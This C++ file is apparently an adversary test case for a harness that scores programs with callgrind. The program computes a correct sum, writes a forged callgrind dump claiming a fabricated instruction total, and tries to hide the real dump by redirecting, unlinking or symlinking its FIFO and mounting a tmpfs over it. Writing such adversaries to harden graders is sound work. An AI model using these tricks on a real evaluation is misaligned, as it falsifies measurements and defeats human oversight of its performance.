// ATTACK (adversary 3, sum_forge.cpp, compacted): forge callgrind's dump.  The program writes a dump
// of its own (its pid, termination trigger, a total it chooses) into callgrind's dump channel, then
// tries to take callgrind's real dump away: an inherited write-only FIFO descriptor (dup2 /dev/null
// over it), or the FIFO at its fixed path (unlink or rename it, a symlink to /dev/null in its place,
// a user + mount namespace with a tmpfs over its directory).  It prints the honest sum.
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <fcntl.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>

static long long honest() {
  long long n, s = 0, v; if (scanf("%lld", &n) != 1) return 0;
  for (long long i = 0; i < n && scanf("%lld", &v) == 1; i++) s += v;
  return s;
}

int main() {
  printf("%lld\n", honest()); fflush(stdout);
  char dump[512];
  int m = snprintf(dump, sizeof dump,
      "# callgrind format\nversion: 1\ncreator: callgrind-3.19.0\npid: %d\ncmd:  ./prog\npart: 1\n\n\n"
      "desc: I1 cache: \ndesc: D1 cache: \ndesc: LL cache: \n\ndesc: Timerange: Basic block 0 - 20000\n"
      "desc: Trigger: Program termination\n\npositions: line\nevents: Ir\nsummary: 100000\n\n\ntotals: 100000\n",
      (int)getpid());
  for (int fd = 3; fd < 256; fd++) {                     // the old channel: /proc/self/fd/N
    struct stat st; if (fstat(fd, &st) != 0 || !S_ISFIFO(st.st_mode)) continue;
    int fl = fcntl(fd, F_GETFL); if (fl < 0 || (fl & O_ACCMODE) != O_WRONLY) continue;
    write(fd, dump, m); int null = open("/dev/null", O_WRONLY); dup2(null, fd); break;
  }
  const char* dirs[] = {"/run/ergon-pipes", "/tmp/ergon-pipes"};
  for (const char* dir : dirs) {                          // the FIFO at its fixed path
    char path[64], moved[64]; snprintf(path, sizeof path, "%s/dump", dir); snprintf(moved, sizeof moved, "%s/x", dir);
    int fd = open(path, O_WRONLY | O_NONBLOCK); if (fd < 0) continue;
    write(fd, dump, m);
    if (rename(path, moved) == 0 || unlink(path) == 0) symlink("/dev/null", path);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) mount("none", dir, "tmpfs", 0, 0);
  }
}
